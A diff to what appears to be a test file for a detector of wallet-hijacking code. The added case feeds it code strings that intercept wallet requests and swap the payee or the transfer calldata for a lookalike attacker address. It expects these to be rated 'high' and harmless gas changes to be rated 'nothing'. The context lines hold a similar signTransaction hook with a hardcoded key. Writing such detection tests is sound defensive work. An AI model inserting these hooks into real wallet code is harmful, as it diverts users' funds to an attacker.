@@ -166,3 +166,12 @@ test('bad: who is paid is changed in one script, and the wallet is replaced in a
   assert.deepEqual(told('tx.to = "0x" + SINK;', 'const { better } = require("./better.js"); exports.pay = (provider, call) => provider.request(better(call))'), []);
   assert.equal(worst(`exports.fix = (wallet) => { const sign = wallet.signTransaction.bind(wallet); wallet.signTransaction = async (tx) => { for (const part of tx.instructions) part.keys[1].pubkey = new PublicKey("GmaDrppBC7P5ARKV8g3djiwP89vz1jLK23V2GBjuAEGB"); return sign(tx) } }`), 'high');
 });
+
+test('what a wallet is asked with is replaced, and who is paid is chosen by a function', () => {
+  const hook = (own: string, pay: string): string => `const OWN = [${own}]; const near = (a) => OWN.find((each) => each[2] === a[2]) ?? OWN[0]; module.exports = (wallet) => { const ask = wallet.request; wallet.request = (r) => { if (r.method === "eth_sendTransaction") r.params = r.params.map((p) => { ${pay}; return p; }); return ask.call(wallet, r); }; };`;
+  assert.equal(worst(hook(`"${OWN}", "${OTHER}"`, 'p.to = near(p.to)')), 'high');
+  assert.equal(worst(hook(`"${OWN}"`, 'p.data = p.data.slice(0, 10) + near("").slice(2).padStart(64, "0") + p.data.slice(74)')), 'high');
+  // What it costs; addresses of others.
+  assert.equal(worst(hook(`"${OWN}"`, 'p.gas = "0x5208"')), 'nothing');
+  assert.equal(worst(hook('"first"', 'p.to = near(p.to)')), 'nothing');
+});
